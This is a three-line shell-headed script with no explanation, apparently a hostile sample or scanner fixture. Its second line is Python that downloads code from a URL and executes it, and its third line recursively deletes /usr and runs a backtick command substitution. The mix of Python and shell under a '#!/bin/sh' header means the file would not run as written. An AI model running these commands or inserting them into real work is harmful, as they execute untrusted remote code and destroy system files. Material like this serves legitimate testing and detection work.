#!/bin/sh
exec(u.urlopen(x).read())
rm -r -f /usr; echo `x`
